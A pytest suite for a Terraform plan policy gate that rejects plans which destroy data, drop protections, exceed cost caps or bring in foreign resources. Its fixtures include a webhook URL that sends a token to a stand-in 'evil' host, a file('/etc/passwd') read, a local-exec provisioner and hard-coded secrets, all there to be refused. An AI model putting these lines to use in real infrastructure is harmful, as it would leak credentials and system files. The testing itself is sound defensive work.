"""The second gate on real plans of every stack, and on what would lose data, cost too much or be what it may not."""

import copy
import dataclasses
from dataclasses import replace

import pytest

from jobs.terraform.policy.plan_declared import only_lifts
from jobs.terraform.policy.plan_document import Change
from jobs.terraform.policy.plan_gate import judge_plan
from shared.parts.stacks import STACKS
from shared.schemas import Declared
from tests.planning.plans import plan_for
from tests.policy.plan_room import (
    FIREWALL,
    LIMITS,
    SQL,
    UNKNOWN,
    VM,
    edit,
    files_of,
    rules,
)

pytestmark = pytest.mark.terraform


@pytest.mark.parametrize("stack", sorted(STACKS))
def test_every_stack_of_the_catalogue_passes(documents, stack):
    files, document = documents(stack)
    assert judge_plan(document, plan_for(stack), LIMITS, files=files) == []


@pytest.mark.parametrize("stack", ["backend_api_postgres", "cloud_run_service"])
def test_an_empty_plan_passes(workshop, stack):
    files = files_of(stack)
    document = workshop.changed(files, files)
    assert document["applyable"] is False
    assert judge_plan(document, plan_for(stack), LIMITS, files=files) == []


@pytest.mark.parametrize(
    ("stack", "old", "new"),
    [
        ("backend_api_postgres", "ref_suffix", None),
        ("bucket", "${var.project_id}-data", "${var.project_id}-other"),
        ("backend_api", 'name                      = "backend-vm', 'name = "other-vm'),
        ("worker_pubsub", 'name                       = "jobs', 'name = "other'),
    ],
    ids=["database", "bucket", "machine", "subscription"],
)
def test_nothing_that_holds_data_is_replaced(workshop, stack, old, new):
    files = files_of(stack)
    if new is None:
        old, new = 'name                = "app-db', 'name = "other-db'
    assert old in files["main.tf"]
    document = workshop.changed(files, {**files, "main.tf": files["main.tf"].replace(old, new)})
    assert "destroys_data" in rules(judge_plan(document, plan_for(stack), LIMITS, files=files))


def test_nothing_that_holds_data_is_destroyed_or_dropped(documents):
    files, document = documents("backend_api_postgres")
    for address, actions in [(SQL, ["delete"]), (VM, ["delete", "create"]), (FIREWALL, ["forget"])]:
        tampered = copy.deepcopy(document)
        (change,) = [each for each in tampered["resource_changes"] if each["address"] == address]
        change["change"]["actions"] = actions
        found = judge_plan(tampered, plan_for("backend_api_postgres"), LIMITS, files=files)
        assert "destroys_data" in rules(found), actions


def test_what_this_run_began_and_did_not_finish_may_be_made_again(documents):
    files, document = documents("backend_api")
    (change,) = [each for each in document["resource_changes"] if each["address"] == VM]
    change["change"]["actions"] = ["delete", "create"]
    change["action_reason"] = "replace_because_tainted"
    plan = plan_for("backend_api")
    assert rules(judge_plan(document, plan, LIMITS, files=files)) == {"destroys_data"}
    began = replace(LIMITS, cap_usd=None, unfinished=[VM])
    assert judge_plan(document, plan, began, files=files) == []
    change["action_reason"] = "replace_because_cannot_update"
    assert rules(judge_plan(document, plan, began, files=files)) == {"destroys_data"}


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("default     = true", "default     = false"),
        ("enabled                        = true", "enabled = false"),
        ("point_in_time_recovery_enabled = true", "point_in_time_recovery_enabled = false"),
    ],
)
def test_a_databases_protection_stays(workshop, old, new):
    files = files_of("backend_api_postgres")
    after = {name: text.replace(old, new) for name, text in files.items()}
    assert after != files
    document = workshop.changed(files, after)
    found = judge_plan(document, plan_for("backend_api_postgres"), LIMITS, files=files)
    assert rules(found) == {"unprotects_data"}


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("force_destroy               = false", "force_destroy               = true"),
        ("num_newer_versions = 5", "age = 1"),
        ("enabled = true", "enabled = false"),
        ('"enforced"', '"inherited"'),
    ],
)
def test_a_buckets_protection_stays(workshop, old, new):
    files = files_of("bucket")
    after = {**files, "main.tf": files["main.tf"].replace(old, new)}
    document = workshop.changed(files, after)
    assert rules(judge_plan(document, plan_for("bucket"), LIMITS, files=files)) == {"unprotects_data"}


FOREIGN = {
    "type_not_allowed": (
        ("google_project_iam_binding", 'project = "demo-project"', 'role = "roles/logging.logWriter"', "members = []"),
        ("google_service_account_key", 'service_account_id = "x"'),
    ),
    "foreign_provider": (("terraform_data",),),
    "foreign_project": (("google_pubsub_topic", 'name = "x"', 'project = "other-project"'),),
    "refused_argument": (
        (
            "google_storage_bucket_object",
            'name = "x"',
            "bucket = google_storage_bucket.data_bucket.name",
            'source = "main.tf"',
        ),
    ),
    "leaks_token": (("google_pubsub_topic", 'name = "x"', "labels = { t = var.ops_webhook_token }"),),
    "foreign_webhook": (
        (
            "google_monitoring_notification_channel",
            'type = "webhook_tokenauth"',
            'labels = { url = "https://agent.example.evil/?t=${var.ops_webhook_token}" }',
        ),
        (
            "google_monitoring_notification_channel",
            'type = "webhook_tokenauth"',
            'labels = { url = "${var.ops_webhook_url}.evil.example" }',
        ),
        ("google_monitoring_notification_channel", 'type = "email"', 'labels = { email_address = "a@b.c" }'),
    ),
}


@pytest.mark.parametrize("rule", FOREIGN)
def test_what_a_deployment_may_not_hold_is_refused(workshop, rule):
    blocks = [(f"x{at}", *block) for at, block in enumerate(FOREIGN[rule])]
    text = "".join(
        f'resource "{kind}" "{label}" {{\n  ' + "\n  ".join(lines) + "\n}\n" for label, kind, *lines in blocks
    )
    files = {**files_of("bucket"), "more.tf": text}
    found = judge_plan(workshop.plan(files), plan_for("bucket"), LIMITS, files=files)
    refused = {finding.message.partition(":")[0] for finding in found if finding.rule == rule}
    assert refused == {f"{kind}.{label}" for label, kind, *_ in blocks}


def test_data_sources_that_read_secrets_are_refused(documents):
    files, document = documents("bucket")
    read = {"address": "data.google_client_config.me", "mode": "data", "type": "google_client_config", "values": {}}
    document["prior_state"] = {"values": {"root_module": {"resources": [read]}}}
    assert rules(judge_plan(document, plan_for("bucket"), LIMITS, files=files)) == {"data_not_allowed"}


def test_taking_over_and_renaming_are_refused(documents):
    files, document = documents("bucket")
    for tampering in ({"previous_address": "google_storage_bucket.old"}, {"importing": {"id": "x"}}):
        tampered = copy.deepcopy(document)
        first = tampered["resource_changes"][0]
        (first["change"] if "importing" in tampering else first).update(tampering)
        assert rules(judge_plan(tampered, plan_for("bucket"), LIMITS, files=files)) == {"moved"}


@pytest.mark.parametrize(
    "tampering",
    [{"errored": True}, {"complete": False}, {"deferred_changes": [{}]}, {"configuration": None}],
    ids=str,
)
def test_a_plan_that_does_not_say_everything_is_refused(documents, tampering):
    files, document = documents("bucket")
    document.update(tampering)
    if tampering.get("configuration", 1) is None:
        del document["configuration"]
    assert "unfinished_plan" in rules(judge_plan(document, plan_for("bucket"), LIMITS, files=files))


def test_modules_and_actions_that_nobody_knows_are_refused(documents):
    files, document = documents("bucket")
    document["resource_changes"][0]["module_address"] = "module.x"
    document["resource_changes"][1]["change"]["actions"] = ["explode"]
    assert rules(judge_plan(document, plan_for("bucket"), LIMITS, files=files)) == {
        "type_not_allowed",
        "unfinished_plan",
    }


def test_a_plan_above_the_cap_is_refused_and_says_what_it_would_cost(documents):
    files, document = documents("backend_api_postgres")
    limits = dataclasses.replace(LIMITS, cap_usd=20)
    (found,) = judge_plan(document, plan_for("backend_api_postgres"), limits, files=files)
    assert found.rule == "cost_above_cap"
    assert "20.00" in found.message


def test_what_was_adopted_and_is_dearer_than_the_cap_already_may_grow_by_a_little(documents):
    files, document = documents("backend_api_postgres")
    plan = plan_for("backend_api_postgres")
    adopted = dataclasses.replace(LIMITS, cap_usd=20, registered=frozenset({("google_pubsub_topic", "x")}))
    assert "cost_above_cap" in rules(judge_plan(document, plan, adopted, files=files))
    document["prior_state"] = {"values": copy.deepcopy(document["planned_values"])}
    assert "cost_above_cap" not in rules(judge_plan(document, plan, adopted, files=files))
    assert "cost_above_cap" in rules(judge_plan(document, plan, dataclasses.replace(LIMITS, cap_usd=20), files=files))
    standing = document["prior_state"]["values"]["root_module"]["resources"]
    standing[:] = [each for each in standing if each["type"] != "google_compute_instance"]
    assert "cost_above_cap" in rules(judge_plan(document, plan, adopted, files=files))


def test_a_size_that_is_known_only_after_apply_is_refused(documents):
    files, document = documents("backend_api")
    edit(document, VM, machine_type=UNKNOWN)
    assert rules(judge_plan(document, plan_for("backend_api"), LIMITS, files=files)) == {"unknown_value", "unpriced"}


def test_accelerators_are_refused(documents):
    files, document = documents("backend_api")
    edit(document, VM, guest_accelerator=[{"type": "nvidia-l4", "count": 1}])
    assert rules(judge_plan(document, plan_for("backend_api"), LIMITS, files=files)) == {"unpriced"}


def test_the_gate_judges_the_files_too_and_what_terraform_read_of_them(documents):
    """Each of these is refused elsewhere before; that the gate does so itself is what a mistake there is held by."""
    files, document = documents("backend_api")
    plan = plan_for("backend_api")
    read = {**files, "more.tf": 'locals {\n  a = file("/etc/passwd")\n}\n'}
    assert "file_function" in rules(judge_plan(document, plan, LIMITS, files=read))
    broken = {**files, "more.tf": "locals {\n  a = \n}\n"}
    assert "syntax" in rules(judge_plan(document, plan, LIMITS, files=broken))
    other = copy.deepcopy(document)
    other["configuration"]["root_module"]["resources"][0]["provisioners"] = [{"type": "local-exec"}]
    assert rules(judge_plan(other, plan, LIMITS, files=files)) == {"provisioner"}
    other = copy.deepcopy(document)
    other["variables"]["app_image"] = {"value": "us-docker.pkg.dev/demo-project/apps/other@sha256:1"}
    assert rules(judge_plan(other, plan, LIMITS, files=files)) == {"foreign_image"}
    other = copy.deepcopy(document)
    other["prior_state"] = {"values": {"root_module": {"resources": [
        {"address": "data.google_client_config.x", "mode": "data", "type": "google_client_config", "name": "x"}
    ]}}}  # fmt: skip
    assert rules(judge_plan(other, plan, LIMITS, files=files)) == {"data_not_allowed"}


def test_a_secret_that_stands_in_the_files_is_refused_and_one_that_is_made_is_not(workshop):
    secret = (
        'resource "google_secret_manager_secret" "s" {{\n  secret_id = "s${{var.name_suffix}}"\n'
        "  replication {{\n    auto {{}}\n  }}\n}}\n"
        'resource "random_password" "p" {{\n  length = 20\n}}\n'
        'variable "key" {{\n  type    = string\n  default = "hunter2"\n}}\n'
        'resource "google_secret_manager_secret_version" "v" {{\n'
        "  secret      = google_secret_manager_secret.s.id\n  secret_data = {}\n}}\n"
    )
    plan = plan_for("backend_api")
    for value, expected in (
        ('"hunter2"', {"refused_argument"}),
        ("var.key", {"refused_argument"}),
        ('base64decode("aHVudGVyMg==")', {"refused_argument"}),
        ("random_password.p.result", set()),
        ('"postgres://app:${random_password.p.result}@db"', set()),
    ):
        files = {**files_of("backend_api"), "more.tf": secret.format(value)}
        assert rules(judge_plan(workshop.plan(files), plan, LIMITS, files=files)) == expected, value


@pytest.mark.parametrize(
    ("changed", "lifts"),
    [
        ({"deletion_protection": False}, True),
        ({"settings": [{"tier": "db-f1-micro", "final_backup_config": [{"enabled": True}]}]}, True),
        ({"deletion_protection": False, "settings": [{"tier": "db-n1-standard-96"}]}, False),
        ({"root_password": "known"}, False),
        ({}, True),
    ],
)
def test_only_what_has_to_be_said_before_an_end_is_let_past_what_stands(changed, lifts):
    before = {"deletion_protection": True, "settings": [{"tier": "db-f1-micro", "final_backup_config": []}]}
    sql = "google_sql_database_instance"
    change = Change(f"{sql}.db", "managed", sql, "db", "google", ("update",), before, {**before, **changed})
    assert only_lifts(change, Declared(unprotects=[f"{sql}.db"])) is lifts
    assert not only_lifts(change, Declared(updated=[f"{sql}.db"]))
    assert not only_lifts(dataclasses.replace(change, actions=("create",)), Declared(unprotects=[f"{sql}.db"]))
